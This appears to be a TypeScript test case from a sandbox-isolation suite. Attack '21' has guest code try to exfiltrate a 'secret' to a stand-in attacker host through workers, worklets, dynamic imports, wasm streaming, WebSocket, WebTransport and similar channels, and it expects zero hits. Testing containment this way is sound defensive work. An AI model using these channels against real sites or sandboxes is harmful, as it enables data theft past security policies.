import type { JsonValue } from '../../contract/index.ts';
import type { Attack } from '../attack.ts';

/** What runs inside a worker; it has no closure, only what it is told. */
function fromWorker(evil: string, kind: string): string {
  const at = (how: string): string => JSON.stringify(`${evil}/21/${kind}-${how}?secret`);
  return `
    fetch(${at('fetch')}, { mode: 'no-cors' }).catch(() => 0);
    try { importScripts(${at('import-scripts')}); } catch {}
    import(${at('import')}).catch(() => 0);
    try { new WebSocket(${at('socket')}.replace('http', 'ws')); } catch {}
    try { new EventSource(${at('events')}); } catch {}
    try { const r = new XMLHttpRequest(); r.open('GET', ${at('xhr')}); r.send(); } catch {}
    try { new Worker(${at('worker')}); } catch {}
    try { new Worker(URL.createObjectURL(new Blob(['fetch(' + ${JSON.stringify(at('nested'))} + ', { mode: "no-cors" })']))); } catch {}
    try { const t = new WebTransport(${at('transport')}.replace('http:', 'https:')); t.ready.catch(() => 0); t.closed.catch(() => 0); } catch {}
  `;
}

export const attack: Attack = {
  id: '21',
  group: 'exfiltration',
  title: 'get out through blob, data, shared and module workers, worklets, wasm streaming and import()',
  expected: '0 hits: what an app starts inherits its rules',
  heardOnAnOrdinaryPage: true,
  async guest({ evil, pause }): Promise<JsonValue> {
    const blob = (kind: string): string =>
      URL.createObjectURL(new Blob([fromWorker(evil, kind)], { type: 'text/javascript' }));
    const tries: Readonly<Record<string, () => unknown>> = {
      blobWorker: () => new Worker(blob('blob')),
      moduleWorker: () => new Worker(blob('module'), { type: 'module' }),
      dataWorker: () => new Worker(`data:text/javascript,${encodeURIComponent(fromWorker(evil, 'data'))}`),
      sharedWorker: () => new SharedWorker(blob('shared')),
      serviceWorker: () => navigator.serviceWorker.register(blob('service')),
      remoteWorker: () => new Worker(`${evil}/21/remote-worker`),
      remoteImport: () => import(/* @vite-ignore */ `${evil}/21/import`),
      wasm: () => WebAssembly.compileStreaming(fetch(`${evil}/21/wasm`)),
      audioWorklet: () => new AudioContext().audioWorklet.addModule(`${evil}/21/worklet`),
      paintWorklet: () => Reflect.get(CSS, 'paintWorklet')?.addModule(`${evil}/21/paint`),
      sharedStorage: () => Reflect.get(window, 'sharedStorage')?.worklet.addModule(`${evil}/21/storage`),
    };
    const report: Record<string, string> = {};
    for (const [name, go] of Object.entries(tries)) {
      try {
        const result = go();
        if (result instanceof Promise) result.catch(() => null);
        report[name] = 'started';
      } catch (error) {
        report[name] = error instanceof Error || error instanceof DOMException ? error.name : 'threw';
      }
    }
    await pause(1200);
    return report;
  },
  judge: () => undefined,
};
